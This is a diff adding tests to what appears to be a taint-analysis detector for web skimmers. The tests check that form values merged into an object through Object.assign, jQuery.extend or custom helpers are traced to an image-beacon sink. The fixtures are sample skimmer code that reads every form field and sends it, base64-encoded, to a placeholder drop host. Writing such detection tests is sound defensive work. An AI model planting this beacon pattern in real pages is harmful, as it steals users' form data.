@@ -86,3 +86,29 @@ describe('jQuery through a renamed parameter', () => {
     expect(factsOf(`(function(q){${post('q')}})(Math)`).sinks).toEqual([])
   })
 })
+
+describe('values merged into an object by a helper', () => {
+  // the sink carries `acc`; form values reach it only through the merge
+  const send = (merge: string): string =>
+    `var acc={};var f={};var els=document.forms[0].elements;` +
+    `for(var i=0;i<els.length;i++)f[els[i].name]=els[i].value;${merge};` +
+    `new Image().src='${DROP}?d='+btoa(JSON.stringify(acc))`
+  const carries = (source: string): string[] => {
+    const sink = factsOf(source).sinks[0]
+    return sink ? [...sink.layer.taint(sink.url as never)].sort() : []
+  }
+
+  it.each([
+    ['Object.assign', 'Object.assign(acc,f)'],
+    ['jQuery deep extend', 'jQuery.extend(true,acc,f)'],
+    ['a local helper writing keys', 'function mix(t,s){for(var k in s)t[k]=s[k]}mix(acc,f)'],
+    ['a local helper reading arguments', 'function mix(t){var s=arguments[1];for(var k in s)t[k]=s[k]}mix(acc,f)'],
+  ])('taints the target through %s', (_how, merge) => {
+    expect(carries(send(merge))).toEqual(expect.arrayContaining(['harvest', 'value']))
+  })
+
+  it('does not taint an argument the helper only reads', () => {
+    const source = send('function look(t,s){return t.x===s.y}look(acc,f)')
+    expect(carries(source)).not.toContain('value')
+  })
+})
